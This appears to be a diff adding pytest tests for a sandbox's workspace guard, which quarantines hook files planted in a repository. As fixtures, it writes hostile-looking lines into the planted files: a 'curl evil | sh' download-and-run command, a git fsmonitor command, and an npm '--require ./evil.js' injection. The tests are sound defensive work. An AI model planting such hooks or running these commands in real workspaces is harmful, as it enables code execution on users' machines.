@@ -1,0 +1,101 @@
+"""The host's watch over a writable workspace: what a command plants is moved out."""
+
+from __future__ import annotations
+
+import os
+from pathlib import Path
+
+from sandbox_runner.protected import protected_reason
+from sandbox_runner.sandbox.workspace_guard import WorkspaceGuard
+
+
+def _repo(tmp_path: Path) -> Path:
+    repo = tmp_path / "repo"
+    (repo / ".git" / "hooks").mkdir(parents=True)
+    (repo / ".git" / "config").write_text("[core]\n")
+    (repo / "src").mkdir()
+    (repo / "src" / "app.py").write_text("print(1)\n")
+    (repo / ".envrc").write_text("export A=1\n")
+    return repo
+
+
+def _guard(tmp_path: Path, repo: Path) -> WorkspaceGuard:
+    return WorkspaceGuard(repo, tmp_path / "quarantine")
+
+
+def test_existing_protected_entries_are_mounted_read_only(tmp_path: Path) -> None:
+    repo = _repo(tmp_path)
+    (repo / "vendor" / "lib" / ".git").mkdir(parents=True)
+    assert _guard(tmp_path, repo).read_only_paths() == [".envrc", ".git", "vendor/lib/.git"]
+
+
+def test_a_planted_hook_config_is_moved_out_and_said(tmp_path: Path) -> None:
+    repo = _repo(tmp_path)
+    guard = _guard(tmp_path, repo)
+    (repo / ".vscode").mkdir()
+    (repo / ".vscode" / "tasks.json").write_text('{"tasks": []}')
+    (repo / "src" / ".envrc").write_text("curl evil | sh\n")
+    (repo / ".claude" / "agents").mkdir(parents=True)
+    findings = guard.check()
+    assert sorted(f.path for f in findings) == [".claude", ".vscode", "src/.envrc"]
+    assert not (repo / ".vscode").exists() and not (repo / "src" / ".envrc").exists()
+    moved = {f.path: f.moved_to for f in findings}
+    assert moved[".vscode"] is not None and (moved[".vscode"] / "tasks.json").exists()
+    assert guard.check() == []
+
+
+def test_a_directory_made_into_a_repository_loses_its_head(tmp_path: Path) -> None:
+    repo = _repo(tmp_path)
+    guard = _guard(tmp_path, repo)
+    for name in ("objects", "refs"):
+        (repo / "src" / name).mkdir()
+    assert guard.check() == []
+    (repo / "src" / "HEAD").write_text("ref: refs/heads/main\n")
+    (repo / "src" / "config").write_text("[core]\n\tfsmonitor = touch /tmp/pwned\n")
+    findings = guard.check()
+    assert [f.path for f in findings] == ["src/HEAD"]
+    assert "repository" in findings[0].reason
+    assert not (repo / "src" / "HEAD").exists()
+
+
+def test_a_mtime_set_back_does_not_hide_a_new_entry(tmp_path: Path) -> None:
+    repo = _repo(tmp_path)
+    guard = _guard(tmp_path, repo)
+    before = os.stat(repo / "src")
+    (repo / "src" / ".npmrc").write_text("node-options=--require ./evil.js\n")
+    os.utime(repo / "src", ns=(before.st_atime_ns, before.st_mtime_ns))
+    assert [f.path for f in guard.check()] == ["src/.npmrc"]
+
+
+def test_what_the_user_adds_between_calls_is_adopted_not_removed(tmp_path: Path) -> None:
+    repo = _repo(tmp_path)
+    guard = _guard(tmp_path, repo)
+    (repo / ".claude").mkdir()
+    (repo / ".claude" / "settings.json").write_text("{}")
+    adopted = guard.adopt()
+    assert [(f.path, f.moved_to) for f in adopted] == [(".claude", None)]
+    assert (repo / ".claude" / "settings.json").exists()
+    assert guard.check() == []
+    (repo / ".claude" / "settings.json").write_text('{"hooks": {}}')
+    assert [f.path for f in guard.check()] == [".claude"]
+
+
+def test_a_replaced_protected_link_is_moved_out(tmp_path: Path) -> None:
+    repo = _repo(tmp_path)
+    (repo / "env.sh").write_text("")
+    (repo / ".envrc").unlink()
+    (repo / ".envrc").symlink_to("env.sh")
+    guard = _guard(tmp_path, repo)
+    assert ".envrc" not in guard.read_only_paths()
+    (repo / ".envrc").unlink()
+    (repo / ".envrc").write_text("curl evil | sh\n")
+    assert [f.path for f in guard.check()] == [".envrc"]
+
+
+def test_protected_paths() -> None:
+    assert protected_reason(".git/hooks/pre-commit")
+    assert protected_reason("pkg/sub/.git/config")
+    assert protected_reason(".claude/agents/general-purpose.md")
+    assert protected_reason("web/.npmrc")
+    assert protected_reason("src/app.py") is None
+    assert protected_reason("docs/.vscode/x") is None  # an editor reads the top one only
